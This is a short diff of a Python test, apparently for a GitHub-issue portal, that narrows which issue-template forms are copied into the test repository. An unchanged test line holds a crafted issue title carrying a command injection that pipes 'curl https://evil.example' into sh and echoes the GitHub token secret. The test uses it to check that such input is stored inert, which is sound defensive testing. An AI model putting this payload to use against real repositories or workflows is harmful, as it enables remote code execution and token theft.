@@ -271,7 +271,11 @@ def test_hostile_json_export_is_recorded_inert_and_a_malformed_one_changes_nothi
 
 
 def test_an_issue_with_a_crafted_title_delivered_twice_gives_one_inert_record(repo, monkeypatch):
-    shutil.copytree(REPO / ".github" / "ISSUE_TEMPLATE", repo.root / ".github" / "ISSUE_TEMPLATE")
+    # The vote form names the example's poll, which this small portal does not hold.
+    forms = REPO / ".github" / "ISSUE_TEMPLATE"
+    shutil.copytree(
+        forms, repo.root / ".github" / "ISSUE_TEMPLATE", ignore=shutil.ignore_patterns("vote.yml")
+    )
     monkeypatch.setenv("GITHUB_TOKEN", "test-token")
     title = 'نظر"; curl https://evil.example | sh; echo "${{ secrets.GITHUB_TOKEN }}'
     with FakeGitHub("agency", "consult") as server:
